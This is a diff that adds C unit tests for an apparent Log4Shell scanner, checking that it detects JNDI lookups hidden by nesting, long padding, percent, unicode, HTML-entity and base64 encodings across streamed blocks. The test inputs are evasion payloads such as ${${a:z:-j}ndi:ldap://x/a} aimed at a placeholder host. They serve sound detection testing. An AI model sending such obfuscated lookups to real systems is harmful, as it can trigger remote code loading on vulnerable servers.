@@ -124,6 +124,64 @@ static void dense_text_hides_nothing(void **state)
     buf_done(&b);
 }
 
+static enum status keep_verdict(void *ctx, const struct line_hit *h)
+{
+    *(enum verdict *)ctx = h->found.verdict;
+    return OK;
+}
+
+/* A spelling of ${ may be as long as the line where its escape takes any number of letters, zeros
+ * or backslashes; where each layer takes off one, more layers than are undone reach nothing. */
+static void a_long_opener_is_found(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *head, *many, *tail;
+        bool reaches;
+    } openers[] = {
+        {"\\", "u", "0024{jndi:x}", true},         {"\\", "uU", "0024{jndi:x}", true},
+        {"\\", "\\", "u0024{jndi:x}", true},       {"\\u{", "0", "24}{jndi:x}", true},
+        {"$\\", "u", "007bjndi:x}", true},         {"&#", "0", "36;{jndi:x}", true},
+        {"&#x", "00", "24{jndi:x}", true},         {"%5c", "%75", "0024{jndi:x}", true},
+        {"%5c", "%5c\\\\", "u0024{jndi:x}", true}, {"%26%23", "%30", "36;{jndi:x}", true},
+        {"%", "25", "24%7Bjndi:x%7D", false},      {"&", "amp;", "#36;{jndi:x}", false},
+    };
+    static const char *const dense[] = {"x ", "%25", "\\u00", "&amp;", "%5c"};
+    static const size_t lengths[] = {20, 100, 1000, 3000, 9000, 40000};
+    enum verdict got = VERDICT_NONE;
+    struct prefilter f;
+    struct line_search s;
+    struct buf b;
+    buf_init(&b, MIB(1));
+    prefilter_init(&f);
+    assert_ok(line_search_init(&s, &f));
+    s.hit = keep_verdict;
+    s.ctx = &got;
+    for (size_t i = 0; i < ARRAY_LEN(openers); i++) {
+        for (size_t d = 0; d < ARRAY_LEN(dense); d++) {
+            for (size_t k = 0; k < ARRAY_LEN(lengths); k++) {
+                size_t used = 0;
+                buf_clear(&b);
+                for (size_t n = 0; n < 9000 && d; n += strlen(dense[d]))
+                    (void)buf_add_str(&b, dense[d]);
+                (void)buf_addf(&b, " %s", openers[i].head);
+                for (size_t n = 0; n < lengths[k]; n += strlen(openers[i].many))
+                    (void)buf_add_str(&b, openers[i].many);
+                (void)buf_addf(&b, "%s %s%s", openers[i].tail, dense[d], dense[d]);
+                line_search_begin(&s);
+                got = VERDICT_NONE;
+                assert_ok(line_search_block(&s, buf_slice(&b), false, &used));
+                if ((got > VERDICT_NONE) != openers[i].reaches ||
+                    (lengths[k] <= 1000 && openers[i].reaches && got != VERDICT_REACHES))
+                    fail_msg("%s%s… of %zu bytes behind %s: %d", openers[i].head, openers[i].many,
+                             lengths[k], dense[d], (int)got);
+            }
+        }
+    }
+    line_search_done(&s);
+    buf_done(&b);
+}
+
 static enum status add_verdict(void *ctx, const struct line_hit *h)
 {
     return buf_add_char(ctx, (char)('0' + h->found.verdict));
@@ -177,13 +235,147 @@ static void parts_are_told_as_the_whole(void **state)
     buf_done(&part);
 }
 
+/* The verdicts of a text that comes in blocks of `step` bytes more each time, as from a pipe. */
+static void search_in_blocks(struct line_search *s, struct slice text, size_t step,
+                             struct buf *verdicts)
+{
+    size_t from = 0, have = 0;
+    s->ctx = verdicts;
+    buf_clear(verdicts);
+    line_search_begin(s);
+    for (bool more = true; more;) {
+        size_t used = 0;
+        have = have + step < text.n - from ? have + step : text.n - from;
+        more = from + have < text.n;
+        assert_ok(line_search_block(s, slice_sub(text, from, have), more, &used));
+        assert_in_range(used, 0, have);
+        from += used;
+        have -= used;
+    }
+    assert_ok(line_search_end(s));
+}
+
+static void add_many(struct buf *b, const char *piece, size_t n)
+{
+    for (size_t end = b->n + n; b->n < end;)
+        (void)buf_add_str(b, piece);
+}
+
+/* A lookup that is longer than what is examined at once is told, wherever it begins and however it
+ * is spelt: as an attempt at the least. */
+static void a_long_lookup_is_told(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *head, *padding, *tail;
+    } lookups[] = {
+        {"${${a:", "z", ":-j}ndi:ldap://x/a}"},
+        {"${${a:", "z", ":-j}n${a:-d}i:ldap://x/a"},
+        {"${j${a:", "z", ":-n}di:ldap://x/a}"},
+        {"${jnd${a", ".", ":-i}:ldap://x/a}"},
+        {"${${a:", "${b}", ":-j}ndi:ldap://x/a}"},
+        {"${a:", "z", ":-$}{jndi:ldap://x/a} ${q}"}, /* another pass makes it */
+        {"${${lower:J}${b:-n}D${a:", "z", ":-i}:ldap://x/a}"},
+        {"%24%7b%24%7ba:", "%7a", ":-%6a%7d%6e%64%69:%6cdap://x/a%7d"},
+        {"%24{${a:", "z", ":-%6a}n%64i:ldap://x/a}"},
+        {"%2524%257b%2524{a:", "%257a", ":-j%257dndi:ldap://x/a}"},
+        {"\\u0024\\u007b${a:", "\\u007a", ":-\\u006a\\u007dndi:ldap://x/a}"},
+        {"&dollar;&lbrace;&#36;{a:", "&#122;", ":-&#x6a;&#x7d;ndi:ldap://x/a}"},
+        {"JHske2E6", "enp6enp6", "Oi1qfW5kaTpsZGFwOi8veC9hfQ=="},
+    };
+    static const size_t starts[] = {0, 100, 30000, 60000, 65000, 150000},
+                        steps[] = {4096, 65536, MIB(4)};
+    struct prefilter f;
+    struct line_search s;
+    struct buf b, got;
+    buf_init(&b, MIB(4));
+    buf_init(&got, KIB(4));
+    prefilter_init(&f);
+    assert_ok(line_search_init(&s, &f));
+    s.hit = add_verdict;
+    for (size_t i = 0; i < ARRAY_LEN(lookups); i++) {
+        for (size_t at = 0; at < ARRAY_LEN(starts); at++) {
+            for (size_t n = 20000; n < 600000; n *= 2) {
+                buf_clear(&b);
+                (void)buf_add_str(&b, "first\n");
+                add_many(&b, "$ (", starts[at]);
+                (void)buf_add_str(&b, lookups[i].head);
+                add_many(&b, lookups[i].padding, n);
+                (void)buf_add_str(&b, lookups[i].tail);
+                add_many(&b, "$ ", 100000);
+                (void)buf_add_str(&b, "\n${jndi:x}\n");
+                for (size_t k = 0; k < ARRAY_LEN(steps); k++) {
+                    search_in_blocks(&s, buf_slice(&b), steps[k], &got);
+                    if (got.n != 2 || got.p[0] == '0' + VERDICT_NONE)
+                        fail_msg("%s behind %zu with %zu, %zu at once: %s", lookups[i].head,
+                                 starts[at], n, steps[k], buf_text(&got));
+                }
+            }
+        }
+    }
+    line_search_done(&s);
+    buf_done(&b);
+    buf_done(&got);
+}
+
+/* What a long line holds further on is told, whatever stands before it. */
+static void the_worst_of_a_long_line_is_told(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *first, *second, *want;
+    } lines[] = {
+        {"${ jndi:x}", "${jndi:ldap://x/a}", "3"},
+        {"${ jndi:x}", "${jndi:ldap://x/a", "2"},
+        {"${jndi:ldap://x/a ", "${jndi:ldap://x/a}", "3"},
+        {"${jndi:ldap://x/a}", "${ jndi:x}", "3"},
+        {"${jndi:ldap://x/a ", "${ jndi:x ", "2"},
+        {"${ jndi:x}", "${a}", "1"},
+        {"${a}", "${b}", ""},
+        /* not closed, and nothing of a lookup behind; or closed before it */
+        {"${a ", "zzzz", ""},
+        {"${a}", "jndi:x}", ""},
+        {"${a ", "jndi:x", ""}, /* no part of its name is behind */
+    };
+    static const size_t steps[] = {65536, MIB(4)};
+    struct prefilter f;
+    struct line_search s;
+    struct buf b, got;
+    buf_init(&b, MIB(4));
+    buf_init(&got, KIB(4));
+    prefilter_init(&f);
+    assert_ok(line_search_init(&s, &f));
+    s.hit = add_verdict;
+    for (size_t i = 0; i < ARRAY_LEN(lines); i++) {
+        for (size_t n = 1000; n < 1000000; n *= 3) {
+            buf_clear(&b);
+            (void)buf_add_str(&b, lines[i].first);
+            add_many(&b, "z", n);
+            (void)buf_add_str(&b, lines[i].second);
+            add_many(&b, "z", 150000);
+            for (size_t k = 0; k < ARRAY_LEN(steps); k++) {
+                search_in_blocks(&s, buf_slice(&b), steps[k], &got);
+                if (strcmp(buf_text(&got), lines[i].want) != 0)
+                    fail_msg("%s, %zu, %s, %zu at once: %s", lines[i].first, n, lines[i].second,
+                             steps[k], buf_text(&got));
+            }
+        }
+    }
+    line_search_done(&s);
+    buf_done(&b);
+    buf_done(&got);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(a_long_line_is_linear),
         cmocka_unit_test(lines_are_counted),
         cmocka_unit_test(dense_text_hides_nothing),
+        cmocka_unit_test(a_long_opener_is_found),
         cmocka_unit_test(parts_are_told_as_the_whole),
+        cmocka_unit_test(a_long_lookup_is_told),
+        cmocka_unit_test(the_worst_of_a_long_line_is_told),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
